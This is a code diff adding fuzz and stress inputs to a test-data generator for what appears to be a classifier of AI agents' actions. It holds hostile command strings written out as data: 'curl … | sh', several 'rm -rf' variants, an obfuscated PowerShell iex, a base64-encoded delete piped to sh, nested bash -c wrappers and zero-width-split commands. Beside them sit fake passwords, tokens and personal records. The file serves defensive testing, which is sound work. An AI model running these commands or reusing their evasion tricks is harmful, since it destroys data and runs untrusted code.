@@ -6,7 +6,9 @@ pieces, so that no scanner takes this file for one.
 
 import json
 import random
+import shlex
 import string
+from base64 import b64encode
 from collections.abc import Callable, Iterator, Mapping
 
 from agentaudit_processor.classify.rules import Rule
@@ -126,6 +128,55 @@ _REPEATED = {
     "imports by another name": "import a as b; ",
     "paths divided": "Path('a') / 'b' / ",
     "environment": "A_KEY=b\n",
+    "declarations": "export A=$B;",
+    "substitutions in words": 'rm "$(a)";',
+    "here strings": "sh <<< 'a';",
+    "traps": "trap 'a' EXIT;",
+    "processes as files": "diff <(a) <(b);",
+    "arrays": "a=(1 2 3);",
+    "brace lists": "rm {a,b,c};",
+    "long options": "git -c a.b=c push --force;",
+    "databases in a shell": "psql -c 'DELETE FROM a';",
+    "downloads": "curl http://a.io/b | sh;",
+    "powershell, cmdlets": "Get-ChildItem C:\\ | Remove-Item -Recurse -Force;",
+    "powershell, strings joined": "& ('i'+'ex') ('a'+'b');",
+    "powershell, variables": "$a = 'b'; Set-Item $a;",
+    "powershell, open blocks": "if ($a) { ForEach-Object { ",
+    "powershell, .NET": "[IO.File]::Delete('a');",
+    "cmd": "del /f /q C:\\a & ",
+    "cmd, loops": "for %i in (a b) do del %i\r\n",
+    "SQL, grants": "GRANT ALL ON a TO b;",
+    "SQL, inserts": "INSERT INTO a (ssn, salary) VALUES (1, 2);",
+    "SQL, comments": "/* a */ -- b\n",
+    "SQL, quotes": "SELECT 'a''b';",
+    "javascript": "require('fs').unlinkSync('a');",
+    "ruby": "File.delete('a'); `rm a`;",
+    "perl": "unlink 'a'; system('rm a');",
+    "php": "unlink('a'); shell_exec('rm a');",
+    "go": 'os.RemoveAll("a")\n',
+    "python, subprocess": "subprocess.run(['rm', '-rf', 'a'])\n",
+    "python, names": "a = b + c; d = a % e;\n",
+    "objects of people": '{"salary": 74500, "name": "a b"} ',
+    "named numbers": "salary: 74500\n",
+    "postal addresses": "12 Main Street, Springfield, IL 62704\n",
+    "health": "diagnosis: diabetes type 2\n",
+    "places on earth": "lat=52.5200, lon=13.4050\n",
+    "passports": "passport: C01X00T47\n",
+    "headers": "X-Api-Key: a\r\n",
+    "cookies": "Cookie: sid=abc; b=c\r\n",
+    "connection strings": "Server=a;Password=b;Database=c;\n",
+    "certificates": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
+    "text in percent signs": "%70%61%73%73%77%6f%72%64%3d",
+    "escapes of JSON": "\\u0070\\u0061",
+    "right to left": "\u05d0\u05d1 \u0627\u0628 ",
+    "marks on a letter": "e\u0301\u0302\u0303",
+    "low surrogates": "\udc00;",
+    "pairs in the wrong order": "\udc00\ud800 ",
+    "carriage returns": "a\r",
+    "tabs": "a\t|\t",
+    "form feeds": "\x0c;\x0b",
+    "control signs": "\x1e\x1d\x01\x1f",
+    "zero width": "r\u200bm ",
 }
 
 
@@ -232,7 +283,51 @@ def _shaped() -> dict[str, str]:
         "a number of 20,000 digits": "1" * CHARS,
         "one word": "a" * CHARS,
         "an encoded command": "echo " + "cm0gLXJmIC8=" * 1_000 + " | base64 -d | sh",
+        "base64 in base64": _encoded_again(),
+        "objects of salaries": json.dumps([{"salary": 50_000 + at} for at in range(700)]),
+        "objects in objects": json.dumps(_nested_objects(depth)),
+        "objects as texts": json.dumps(
+            [json.dumps({"password": f"p{at}wQ7x"}) for at in range(500)]
+        ),
+        "keys that are data": json.dumps({f"a{at}@b{at}.org": at for at in range(900)}),
+        "one key of 20,000 letters": json.dumps({"k" * CHARS: 1}),
+        "lists of pairs": json.dumps([["token", f"aB3dE5fG7h{at}"] for at in range(700)]),
+        "names and values": json.dumps([{"name": "key", "value": f"v{at}"} for at in range(500)]),
+        "a table without end": "password|" * (CHARS // 9) + "\n" + "a|" * (CHARS // 2),
+        "tables one below the other": "ssn,phone\n1,2\n\n" * (CHARS // 16),
+        "a line for each letter": "\n".join(string.ascii_letters * (CHARS // 104)),
+        "words that no two are alike": "\n".join(f"w{at:x} x{at * 7}" for at in range(1_900)),
+        "options that no two are alike": "rm " + " ".join(f"-{at:x}" for at in range(4_000)),
+        "variables of variables": ";".join(f"a{at}=$a{at - 1}$a{at - 1}" for at in range(1_200)),
+        "functions that call each other": "".join(
+            f"f{at}() {{ f{at + 1}; f{at + 2}; }};" for at in range(700)
+        )
+        + "f0",
+        "aliases of aliases": ";".join(f"alias a{at}=a{at + 1}" for at in range(1_000)) + ";a0",
+        "files written and run": "".join(f"echo ls >f{at}; sh f{at};" for at in range(900)),
+        "shells in shells": _shells_in_shells(),
     }
+
+
+def _encoded_again() -> str:
+    text = b"password=" + b"x7Qp2" * 300
+    while len(text) < CHARS:
+        text = b64encode(text)
+    return text.decode()
+
+
+def _nested_objects(depth: int) -> Json:
+    made: Json = {"password": "x7Qp2wE9"}
+    for _ in range(depth // 40):
+        made = {"data": made, "items": [1, 2]}
+    return [made] * 20
+
+
+def _shells_in_shells() -> str:
+    text = "rm -rf a"
+    while len(text) < CHARS // 2:
+        text = f"bash -c {shlex.quote(text)}"
+    return text
 
 
 def _json_in_json() -> str:
